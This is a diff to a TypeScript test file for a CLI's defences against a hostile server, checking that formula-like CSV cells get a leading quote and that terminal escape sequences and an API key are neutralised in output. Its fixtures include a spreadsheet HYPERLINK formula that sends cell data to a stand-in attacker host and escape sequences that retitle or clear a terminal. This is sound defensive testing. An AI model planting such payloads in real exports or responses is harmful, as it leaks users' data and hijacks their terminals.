@@ -1,12 +1,14 @@
 // Trust no server (issue #10, items 1 and 7): what a hostile server says can neither drive the
 // terminal (title, clear screen, clipboard, 8-bit CSI) nor make the CLI print a secret, in any
 // human output path; json/jsonl/yaml stay exact.
-import { existsSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import type { ServerResponse } from 'node:http';
 import { execa } from 'execa';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { parse as parseYaml } from 'yaml';
-import { BIN, cleanEnv, runCli, type RunOptions } from '../helpers/cli.js';
+import { BIN, cleanEnv, runCli, tempDir, type RunOptions, describeWith } from '../helpers/cli.js';
 import { startHostile, type HostileServer } from '../helpers/hostile-server.js';
 
 const KEY = 'hostile-key-7c1e9a4b2d6f8e03';
@@ -122,7 +124,38 @@ describe('server text cannot drive the terminal', () => {
   });
 });
 
-describe.skipIf(!existsSync('/usr/bin/script'))('on a terminal, with colour', () => {
+describe('CSV cells a spreadsheet would evaluate get a leading quote', () => {
+  const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1', '-2', '@x', '=1+1'];
+
+  it('-o csv of records named like formulas; numbers stay numbers', async () => {
+    srv.route('GET /api/tags', (_q, res) => json(res, 200, { success: true, data: FORMULAS.map((name, i) => ({ _id: `t${i}`, name, usage: -i })) }));
+    const r = await run(['tags', 'list', '-o', 'csv', '--fields', '_id,name,usage']);
+    expect(r.exitCode).toBe(0);
+    expect(r.stderr).toBe('');
+    const rows = parseCsv(r.stdout) as string[][];
+    expect(rows[0]).toEqual(['_id', 'name', 'usage']);
+    expect(rows.slice(1)).toEqual(FORMULAS.map((name, i) => [`t${i}`, `'${name}`, String(-i)]));
+    expect(srv.received.map((q) => `${q.method} ${q.path}`)).toEqual(['GET /api/tags']);
+  });
+
+  it('the batch results file: an error text from the server that starts a formula', async () => {
+    srv.route('POST /api/v2/chat/messages', (_q, res) => json(res, 400, { success: false, message: FORMULAS[0] }));
+    const dir = tempDir('chatcrm-csv-');
+    const input = join(dir, 'rows.csv');
+    writeFileSync(input, 'to\n15550000001\n');
+    const results = join(dir, 'results.csv');
+    const r = await run(['chat', 'send-batch', input, '--sender', 'wa_snd_1', '--text', 'hi', '--results', results, '--json']);
+    expect(r.exitCode).toBe(5);
+    expect(JSON.parse(r.stdout)).toMatchObject({ rows: 1, failed: 1 });
+    expect(parseCsv(readFileSync(results, 'utf8'))).toEqual([
+      ['row', 'to', 'status', 'message_id', 'error'],
+      ['1', '15550000001', 'failed', '', `'${FORMULAS[0]} (HTTP 400)`],
+    ]);
+    expect(srv.received.filter((q) => q.method === 'POST').map((q) => `${q.path} ${q.body}`)).toEqual(['/api/v2/chat/messages {"sender_id":"wa_snd_1","to":"15550000001","message":{"type":"text","text":{"body":"hi"}}}']);
+  });
+});
+
+describeWith('script', existsSync('/usr/bin/script'), 'on a terminal, with colour', () => {
   /** stdout and stderr merged, as a terminal shows them (`script` gives the CLI a pseudo-terminal). */
   async function onTty(args: string[]) {
     const cmd = ['node', BIN, ...args].map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
@@ -150,6 +183,26 @@ describe.skipIf(!existsSync('/usr/bin/script'))('on a terminal, with colour', ()
     expect(e.exitCode).toBe(5);
     onlyOurStyling(e.output);
     expect(e.output).toContain('\u001b[31mError:\u001b[39m');
+  });
+
+  it('the export-status spinner shows server text inert, and never the key', async () => {
+    let polls = 0;
+    srv.route('GET /api/contacts/export/status/job1', (_q, res) =>
+      json(res, 200, { success: true, data: ++polls < 3 ? { status: `processing ${EVIL} for ${KEY}`, progress: polls * 40 } : { status: 'completed', file_name: 'contacts.csv' } }),
+    );
+    const r = await onTty(['contacts', 'export-status', 'job1', '--wait', '--interval', '0.3']);
+    expect(r.exitCode).toBe(0);
+    // What ora draws (hide/show the cursor, go up a line or to column 1, erase the line) and our
+    // colours; a raw ESC of the server's (clear screen, title, clipboard), a BEL or a C1 would remain.
+    // eslint-disable-next-line no-control-regex
+    const ours = r.output.replace(/\u001b\[(?:\?25[lh]|\d*[AGK]|[0-9;]*m)/g, '');
+    // eslint-disable-next-line no-control-regex
+    expect(ours).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
+    expect(r.output).toContain('Export job1: processing A\\x1b]0;pwned\\x07B\\x1b[2JC');
+    expect(r.output).toContain('(80%)');
+    expect(r.output).not.toContain(KEY);
+    expect(r.output).toContain('for ***');
+    expect(srv.received.map((q) => q.path)).toEqual(Array(3).fill('/api/contacts/export/status/job1'));
   });
 });
 
